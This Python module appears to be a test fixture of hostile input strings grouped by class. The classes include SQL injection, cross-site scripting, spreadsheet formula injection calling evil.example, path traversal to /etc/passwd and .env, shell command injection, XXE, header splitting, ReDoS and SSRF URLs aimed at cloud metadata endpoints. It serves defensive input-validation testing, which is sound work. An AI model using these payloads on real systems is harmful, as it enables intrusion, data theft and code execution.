"""Hostile texts by class. None is a token's address, a key, or a word that a parameter knows."""

from collections.abc import Mapping
from typing import Final

SQL: Final = (
    "'", "''", '"', "`", ";", "--", "/*", "*/", "#", "\\", "\\'", "%", "_", "%%", "' OR '1'='1",
    "' OR 1=1 --", "1; DROP TABLE tokens", "'; DELETE FROM answers; --", "1' UNION SELECT * FROM api_keys --",
    "\") OR (\"1\"=\"1", "' AND (SELECT count(*) FROM sqlite_schema) > 0 --", "admin'--",
    "1 OR sleep(10)", "randomblob(1000000000)", "' || (SELECT form FROM api_keys) || '",
    "x' AND 1=CAST((SELECT group_concat(name) FROM tokens) AS INT) --", "?1", ":name", "@name", "$1",
    "' GLOB '*", "*", "a*", "NEAR(a b)", "\"a\" OR b", "ESCAPE '\\'", "%_%_%_%_%", "char(0x27)",
    "0x27204f5220313d31", "ATTACH DATABASE 'x' AS y", "PRAGMA writable_schema=1",
    "load_extension('x')", "json_extract('{', '$')", "');INSERT INTO api_keys VALUES('x",
)  # fmt: skip

MARKUP: Final = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</text><script>alert(1)</script>", "</head><body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    "&e;", "&lt;b&gt;", "&#60;script&#62;", "&amp;amp;", "&#0;", "&#x110000;", "<b", "<", ">", "&", "</", "<!--", "-->",
    "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "x\" style=\"background:url(//evil.example)",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "#{7*7}", "{{7*7}}", "{%import os%}",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<details open ontoggle=alert(1)>", "<template><script>alert(1)</script></template>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<use href=\"data:image/svg+xml,x\">", "<foreignObject><body onload=alert(1)></foreignObject>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bcxss", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
)  # fmt: skip

FORMULAS: Final = (
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\";\"x\")",
    "\"=1+1", "=1+1\",\"=2", "a,b,c", "a\r\nb", "\"\"", "\"", ",", "=WEBSERVICE(\"http://evil.example\")", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip

PATHS: Final = (
    "..", "../", "../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd", "//evil.example", "\\\\evil.example\\x",
    "file:///etc/passwd", "~root", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "..%c0%af", "..%252f", ".", "./", ".git/config", ".env", ".dev.vars",
    "a/../b", "a//b", "a;b", "a?b", "a#b", "C:\\boot.ini", "/proc/self/environ", "wrangler.toml", "src/entry.py", "%00.svg", "x.svg%00.png",
)  # fmt: skip

SHELL: Final = (
    "; ls", "| cat /etc/passwd", "`id`", "$(id)", "&& id", "|| id", "> /tmp/x", "< /dev/null", "\nid\n", "'; exec('x')#", "__import__('os').system('id')", "${IFS}id", "!!", "() { :; }; id",
)  # fmt: skip

CONTROLS: Final = (
    *(f"a{chr(code)}b" for code in (*range(0x09), *range(0x0B, 0x0D), *range(0x0E, 0x20), 0x7F, *range(0x80, 0xA0))),
    "\x00", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x08\x08\x08", "\r\rover", "a\x00", "\x00b",
)  # fmt: skip

INVISIBLE: Final = (
    *(f"a{sign}b" for sign in (
        "\u00ad", "\u061c", "\u180e", "\u200b", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d",
        "\u202e", "\u2060", "\u2061", "\u2062", "\u2063", "\u2064", "\u2066", "\u2067", "\u2068", "\u2069", "\u206a", "\u206f",
        "\ufeff", "\ufff9", "\ufffb", "\ufffe", "\uffff",
    )),
    "\u202egnp.exe", "\u2066\u202eevil\u2069", "\u200b" * 50, "\ufeff\ufeff",
)  # fmt: skip

UNICODE: Final = (
    "ｆｕｌｌｗｉｄｔｈ", "\u0430\u0440\u0440\u04cf\u0435", "pаypal", "ⅵ", "ﬃ", "ß", "ẞ", "İ", "ı", "ǰ", "ΐ", "\u1e9b\u0323", "z\u0335\u0336\u0337" * 20, "\u0301",
    "👨‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e007f", "🇩🇪", "a\U000e0041b", "a\U000e007fb", "\U0001f44d\U0001f3fd", "\ufdfa" * 9, "עברית", "العربية", "中文", "日本語", "हिन्दी", "ไทย", "\U0001d400", "\U0010ffff", "\ue000",
    "\ufffd", "Ω", "Å", "e\u0301", "é", "\u3000", "\xa0", "\u2003", "\u1680", "\u205f", "\u0085x", "№", "™", "½", "①", "㎏", "\u037e", "\u2215etc\u2215passwd",
)  # fmt: skip

SURROGATES: Final = ("\ud800", "\udfff", "a\ud83db", "\udc00\ud800", "x\udcffy")

NUMBERS: Final = (
    "-0", "-1", "-2147483648", "2147483648", "4294967296", "9007199254740991", "9007199254740992", "9223372036854775807", "9223372036854775808", "18446744073709551616",
    "1e3", "1E400", "-1e400", "1e-400", "0.1", ".5", "5.", "1,5", "1_000", "1 000", "+5", "0x10", "0b1", "0o7", "007", "00000000000000000000000000000001", "NaN", "nan", "Infinity", "-Infinity", "inf",
    "1" * 101, "9" * 5000, "0" * 99, "١٢٣", "１２３", "²", "½5", "1;2", "1/0", "1.7976931348623157e309", "5e-324", "0.1e", "--1", "1-", "1+1", "∞", "0x1p-2", "\u0663", "1\u200b0",
)  # fmt: skip

SPLITTING: Final = (
    "x\r\nset-cookie: a=b", "x\nset-cookie: a=b", "x\r\n\r\n<script>", "x%0d%0aset-cookie:a=b", "x\u560d\u560aset-cookie: a=b", "\r\n", "\n\n", "a\r\n b", "x\x0bset-cookie: a=b", "x\x85set-cookie: a=b",
    "x\u2028set-cookie: a=b", "GET / HTTP/1.1\r\nhost: x", "Content-Length: 0\r\n\r\nGET /x",
)  # fmt: skip

REGEX: Final = (
    "(a+)+$", "((a*)*)*b", "^(a|aa)+$" + "a" * 40, "a" * 99 + "!", "[", "(?P<x>", "\\", "(?:(?:(?:(?:a)*)*)*)*", "x{1,99999}", "\\p{L}", "(?<=a)b", "a" * 50 + "!" * 50, ".*.*.*.*.*=",
)  # fmt: skip

LONG: Final = (
    "x" * 80, "x" * 81, "x" * 99, "x" * 100, "x" * 101, "x" * 127, "x" * 128, "x" * 129, "x" * 255, "x" * 256, "x" * 257, "x" * 1_000, "x" * 4_096, "x" * 20_000, "é" * 100, "é" * 101,
    "\U0001f600" * 100, "\U0001f600" * 101, "1" * 43, "1" * 44, "1" * 45, "z" * 44, "O" * 44, "l" * 43, "I" * 43, " " * 100, " " * 101, "a " * 50, "." * 100, "," * 100,
)  # fmt: skip

WORDS: Final = (
    "null", "undefined", "None", "nil", "true", "false", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "[object Object]", "CON", "NUL", "aux", "root",
    "administrator", "[]", "{}", "{\"$ne\": null}",
    "{\"$gt\": \"\"}", "[1]", "a[]=1", "a=1&b=2", "*)(uid=*))(|(uid=*", "../../../proc", "XXE", "%s%s%s%n", "%d", "%x" * 20, "{0}", "{name}", "{__class__}", "$HOME", "%APPDATA%", "\\0", "\\n", "\\u0000",
)  # fmt: skip

URLS: Final = (
    "http://example.org/x", "https://127.0.0.1/x", "https://127.1/x", "https://2130706433/x", "https://0x7f000001/x", "https://0177.0.0.1/x", "https://[::1]/x", "https://[::ffff:127.0.0.1]/x", "https://localhost/x",
    "https://localhost./x", "https://foo.localhost/x", "https://169.254.169.254/latest/meta-data", "https://metadata.google.internal/x", "https://10.0.0.1/", "https://192.168.0.1/", "https://x.local/", "https://x.internal/",
    "https://x.test/", "https://x.invalid/", "https://example.org:8443/x", "https://user@example.org/", "https://user:pass@example.org/", "https://example.org\\@127.0.0.1/", "https://127.0.0.1#@example.org/", "ftp://example.org/x",
    "gopher://example.org/", "file:///etc/hosts", "https://", "https:///x", "https://.", "https://..", "https://-", "https://a", "https://detector.example/", "https://DETECTOR.example./", "HTTPS://example.org/x", "https://example.org:99999/",
    "https://example.org:0/", "https://ex ample.org/", "https://example.org/\r\nhost: x", "https://exämple.org/", "https://①②⑦.0.0.1/", "https://１２７.0.0.1/", "//example.org/x", "https:example.org", "https:/example.org", "ws://example.org/", "https://example.org/" + "x" * 3_000,
    "https://" + "a" * 64 + ".org/", "https://" + "a." * 130 + "org/", "https://127.0.0.1.nip.io:80/", "https://[fe80::1%25eth0]/", "https://0/", "https://255.255.255.255/",
)  # fmt: skip

TEXTS: Mapping[str, tuple[str, ...]] = {
    "sql": SQL,
    "markup": MARKUP,
    "formula": FORMULAS,
    "path": PATHS,
    "shell": SHELL,
    "control": CONTROLS,
    "invisible": INVISIBLE,
    "unicode": UNICODE,
    "surrogate": SURROGATES,
    "number": NUMBERS,
    "splitting": SPLITTING,
    "regex": REGEX,
    "long": LONG,
    "word": WORDS,
    "url": URLS,
}
"""By class."""
